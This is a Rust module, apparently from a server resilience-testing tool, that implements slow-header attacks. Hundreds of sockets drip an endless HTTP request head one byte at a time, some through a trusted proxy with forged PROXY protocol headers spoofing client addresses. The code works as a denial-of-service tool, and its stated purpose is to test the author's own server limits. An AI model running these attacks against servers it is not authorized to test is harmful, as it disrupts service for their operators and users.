//! Attacks before `session:hello`: a request head dripped a byte per packet, directly or
//! through a trusted proxy.

use std::sync::Arc;
use std::time::{Duration, Instant};

use tokio::io::AsyncWriteExt;

use crate::ctx::{Ctx, Tally};

/// Bytes between two drips of one socket.
const DRIP_EVERY: Duration = Duration::from_millis(5);

/// `drip`: `--conns` (200) sockets spread over `--spread` addresses, each sending a request
/// head that never ends (a header line growing without end) one byte per packet every
/// 5 ms, reopened when the server closes it. The server must bound the whole head in time
/// and size, and the bytes must cost it little.
pub async fn drip(ctx: Arc<Ctx>) {
    let n = ctx.conns.unwrap_or(200);
    let tasks: Vec<_> = (0..n)
        .map(|i| tokio::spawn(drip_one(ctx.clone(), i, DRIP_EVERY)))
        .collect();
    for t in tasks {
        let _ = t.await;
    }
}

/// Bytes between two drips of one `proxy-heads` socket.
const SLOW_EVERY: Duration = Duration::from_millis(100);

/// `proxy-heads`: `--conns` (300) sockets from the trusted proxy's address (`--via`),
/// each opening with a PROXY protocol v1 header that names a client from `--from` and
/// `--spread` (as an L4 proxy in front of the server writes it), then dripping a request
/// head that never ends a byte every 100 ms, reopened when closed. Without `--via`, from
/// the attacker's own addresses and no PROXY header.
pub async fn proxy_heads(ctx: Arc<Ctx>) {
    let n = ctx.conns.unwrap_or(300);
    let tasks: Vec<_> = (0..n)
        .map(|i| tokio::spawn(drip_one(ctx.clone(), i, SLOW_EVERY)))
        .collect();
    for t in tasks {
        let _ = t.await;
    }
}

/// The socket for dripper `i`: through the proxy (`--via`) with its PROXY header
/// written, or from source address `i` of `--from`/`--spread`.
async fn open(ctx: &Ctx, i: usize) -> std::io::Result<tokio::net::TcpStream> {
    let Some(via) = ctx.via else {
        return ctx.connect_nth(i).await;
    };
    let server: std::net::SocketAddr = ctx.host.parse().map_err(std::io::Error::other)?;
    let socket = tokio::net::TcpSocket::new_v4()?;
    socket.bind(std::net::SocketAddr::new(via.into(), 0))?;
    let mut s = socket.connect(server).await?;
    let client = ctx
        .sources
        .get(i % ctx.sources.len().max(1))
        .copied()
        .unwrap_or(std::net::Ipv4Addr::new(10, 66, 0, 1).into());
    let line = format!(
        "PROXY TCP4 {client} {} {} {}\r\n",
        server.ip(),
        40_000 + i % 20_000,
        server.port()
    );
    s.write_all(line.as_bytes()).await?;
    Ok(s)
}

async fn drip_one(ctx: Arc<Ctx>, i: usize, every: Duration) {
    // Start spread over one drip period, not all in the same millisecond.
    tokio::time::sleep(every.mul_f64(i as f64 / 200.0)).await;
    while ctx.going() {
        Tally::add(&ctx.tally.conns, 1);
        let Ok(mut s) = open(&ctx, i).await else {
            tokio::time::sleep(Duration::from_millis(50)).await;
            continue;
        };
        // Each byte its own packet.
        let _ = s.set_nodelay(true);
        let head = format!(
            "GET /{} HTTP/1.1\r\nHost: {}\r\nX-Pad: ",
            ctx.target, ctx.host
        );
        let mut bytes = head.into_bytes().into_iter().chain(std::iter::repeat(b'a'));
        let mut every = tokio::time::interval(every);
        let opened = Instant::now();
        loop {
            every.tick().await;
            if !ctx.going() {
                return;
            }
            let b = bytes.next().unwrap_or(b'a');
            if s.write_all(&[b]).await.is_err() {
                Tally::add(&ctx.tally.closed, 1);
                ctx.report_max("held_ms_max", opened.elapsed().as_millis() as u64);
                break;
            }
            Tally::add(&ctx.tally.sent, 1);
        }
    }
}
